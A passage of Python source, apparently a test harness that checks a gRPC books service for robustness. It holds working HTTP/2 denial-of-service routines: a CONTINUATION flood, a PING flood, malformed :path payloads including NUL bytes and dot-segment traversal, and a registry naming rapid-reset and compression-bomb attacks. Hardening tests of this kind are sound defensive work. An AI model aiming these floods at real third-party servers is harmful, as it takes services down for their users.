    budget = Budget(max_seconds, stop)
    lock = threading.Lock()
    per = {}
    for vi, variant in enumerate(variants):
        if budget.over():
            break
        # Each variant gets an equal share of what is left (the server may slow the flood down).
        vbudget = Budget(budget.left() / (len(variants) - vi), stop)
        infos = [None] * connections

        def run(i, variant=variant, vbudget=vbudget, infos=infos):
            info, oc, c = _continuation_one(host, port, variant, total_bytes, frame_bytes,
                                            timeout, vbudget, hold_s)
            infos[i] = info
            with lock:
                res["statuses"]["%s: %s" % (variant, oc)] += 1
                if c is not None:
                    absorb(res, c)
            if c is not None:
                c.close()

        threads = [threading.Thread(target=run, args=(i,), daemon=True)
                   for i in range(connections)]
        for th in threads:
            th.start()
        for th in threads:
            th.join(vbudget.left() + timeout + 10)
        for info in infos:
            if info and info.get("cut"):
                res["notes"].append("%s: %s after %.1f MB in %.1f s" % (
                    variant, info["cut"], info["bytes_sent"] / 1e6, info["send_s"]))
        per[variant] = infos[0] if connections == 1 else infos
    res["details"]["per_variant"] = per
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Attack: PING flood.

def attack_ping_flood(host, port, stop=None, pings=50000, batch=500, request_every=50,
                      timeout=5.0, max_seconds=40.0):
    """Two connections, one after the other: `pings` PING frames alone; then `pings` PINGs with a
    GetBook request every `request_every` pings. Records PING ACKs and whether/when the server
    sent GOAWAY (code, debug data, after how many pings)."""
    res = new_result("ping_flood")
    budget = Budget(max_seconds, stop)
    per = {}
    for variant in ("alone", "interleaved"):
        if budget.over():
            break
        try:
            c = RawConn(host, port, timeout=timeout)
        except OSError as e:
            per[variant] = {"error": "connect: %s" % e.__class__.__name__}
            continue
        info = {"pings": 0, "requests": 0}
        try:
            c.start()
            c.pump_until(lambda: c.settings_acks > 0, 2.0)
            block = header_block(request_headers(GET_BOOK, c.authority))
            body = grpc_frame(get_book_bytes("books/seed-0"))
            sid = 1
            while info["pings"] < pings and not budget.over() and not c.closed:
                parts = []
                for _ in range(min(batch, pings - info["pings"])):
                    parts.append(ping(struct.pack(">Q", info["pings"])))
                    info["pings"] += 1
                    if variant == "interleaved" and info["pings"] % request_every == 0:
                        parts.append(frame(HEADERS, FLAG_END_HEADERS, sid, block))
                        parts.append(frame(DATA, FLAG_END_STREAM, sid, body))
                        sid += 2
                        info["requests"] += 1
                if not c.send(b"".join(parts)):
                    break
                c.pump(0.0)
                if c.goaways and "pings_at_goaway" not in info:
                    info["pings_at_goaway"] = info["pings"]
                    info["goaway_t_s"] = c.goaways[0]["t"]
                    break
            c.pump_until(lambda: False, 1.0)
            if c.goaways and "pings_at_goaway" not in info:
                info["pings_at_goaway"] = info["pings"]
                info["goaway_t_s"] = c.goaways[0]["t"]
            info["ping_acks"] = c.ping_acks
            info["goaway"] = c.goaways[:2]
            info["closed"] = c.closed
            info["responses"] = dict(collections.Counter(
                c.outcome(s) or "unanswered" for s in range(1, sid, 2)))
            per[variant] = info
            res["statuses"]["%s: %d PING ACKs for %d PINGs" % (variant, c.ping_acks,
                                                                info["pings"])] += 1
            for k, v in info["responses"].items():
                res["statuses"]["%s: request %s" % (variant, k)] += v
        finally:
            absorb(res, c)
            c.close()
    res["details"]["per_variant"] = per
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Attack: odd :path values.

ODD_PATHS = [
    ("empty", b""), ("slash", b"/"), ("double slash", b"//"), ("no slash", b"x"),
    ("service, no method", b"/books.v1.BooksService/"),
    ("method + extra", b"/books.v1.BooksService/GetBook/extra"),
    ("16 KiB", b"/" + b"a" * (16 * 1024 - 1)),
    ("non-ASCII UTF-8", "/books.v1.BooksService/GétBook📚".encode()),
    ("invalid UTF-8", b"/books.v1.BooksService/\xff\xfe"),
    ("%2F-encoded", b"%2Fbooks.v1.BooksService%2FGetBook"),
    ("%2F inside", b"/books.v1.BooksService%2FGetBook"),
    ("NUL inside", b"/books.v1.BooksService/GetBook\x00x"),
    ("NUL only", b"\x00"),
    ("trailing NUL", b"/books.v1.BooksService/GetBook\x00"),
    ("query string", b"/books.v1.BooksService/GetBook?x=1"),
    ("lower-case service", b"/books.v1.booksservice/getbook"),
    ("dot segments", b"/books.v1.BooksService/../grpc.health.v1.Health/Check"),
    ("spaces", b"/books.v1.BooksService/Get Book"),
    ("absolute URI", b"http://127.0.0.1/books.v1.BooksService/GetBook"),
    ("asterisk", b"*"),
    ("reflection service only", b"/grpc.reflection.v1.ServerReflection"),
    ("health, no method", b"/grpc.health.v1.Health/"),
]


def attack_odd_paths(host, port, stop=None, timeout=5.0, max_seconds=60.0, paths=None):
    """One request per odd :path, each on its own connection (hand-built frames, so every byte
    goes as given; the server's SETTINGS acknowledged first, like a normal client), with a
    GetBook body and no grpc-timeout (so a hang is the server's). Records the outcome; a fixed
    server answers UNIMPLEMENTED or a stream/connection error within the timeout, never a hang."""
    res = new_result("odd_paths")
    budget = Budget(max_seconds, stop)
    per = {}
    body = grpc_frame(get_book_bytes("books/seed-0"))
    for label, path in (paths or ODD_PATHS):
        if budget.over():
            break
        t = time.monotonic()
        try:
            c = RawConn(host, port, timeout=timeout)
        except OSError as e:
            per[label] = {"outcome": "CONNECT_FAILED:%s" % e.__class__.__name__}
            res["statuses"][per[label]["outcome"]] += 1
            continue
        try:
            c.start()
            c.pump_until(lambda: c.settings_acks > 0 and bool(c.server_settings), 2.0)
            block = header_block(request_headers(path, c.authority))
            c.send(header_frames(1, block) + frame(DATA, FLAG_END_STREAM, 1, body))
            c.pump_until(lambda: c.outcome(1) is not None and
                         (c.streams[1].get("ended") or "rst" in c.streams[1]),
                         min(timeout, max(0.5, budget.left())))
            st = c.streams.get(1, {})
            oc = c.outcome(1)
            if oc is None:
                oc = ("GOAWAY:%s" % c.goaways[0]["code"]) if c.goaways else \
                    ("CLOSED:%s" % c.close_reason) if c.closed else "TIMEOUT"
            per[label] = {"outcome": oc, "grpc_message": st.get("grpc_message"),
                          "all_statuses": st.get("all_statuses"), "path_len": len(path),
                          "elapsed_s": round(time.monotonic() - t, 3), "goaway": c.goaways[:1]}
            res["statuses"][oc] += 1
        finally:
            absorb(res, c)
            c.close()
    res["details"]["per_path"] = per
    return finish(res, budget)


# ---------------------------------------------------------------------------------------------
# Registry.

ATTACKS = collections.OrderedDict([
    ("page_tokens", attack_page_tokens),
    ("violation_flood", attack_violation_flood),
    ("compression_bomb", attack_compression_bomb),
    ("random_bytes", attack_random_bytes),
    ("oversized_metadata", attack_oversized_metadata),
    ("idle_connections", attack_idle_connections),
    ("bodiless_streams", attack_bodiless_streams),
    ("rapid_reset", attack_rapid_reset),
    ("continuation_flood", attack_continuation_flood),
    ("ping_flood", attack_ping_flood),
    ("odd_paths", attack_odd_paths),
])


def summarize(result, width=400):
    """One line: status counts, GOAWAYs, resets, closed, notes."""
    parts = []
    st = result.get("statuses") or {}
    if st:
        parts.append(", ".join("%s×%d" % (k, v) for k, v in
                               sorted(st.items(), key=lambda kv: (-kv[1], kv[0]))))
    gas = collections.Counter()
    for g in result.get("goaway") or []:
        key = g["code"] + ((" %r" % g["debug"][:60]) if g.get("debug") else "")
        gas[key] += g.get("count", 1)
    if gas:
        parts.append("GOAWAY " + ", ".join("%s×%d" % kv for kv in gas.items()))
    if result.get("rst"):
        parts.append("RST_STREAM recv " + ", ".join("%s×%d" % kv for kv in
                                                    result["rst"].items()))
    if result.get("closed"):
        parts.append("server closed a connection")
    parts.append("%.1f MB sent in %.1f s" % (result.get("bytes_sent", 0) / 1e6,
                                              result.get("elapsed_s", 0)))
    for n in result.get("notes") or []:
        parts.append(n)
    s = "; ".join(parts)
    return s if len(s) <= width else s[:width - 1] + "…"
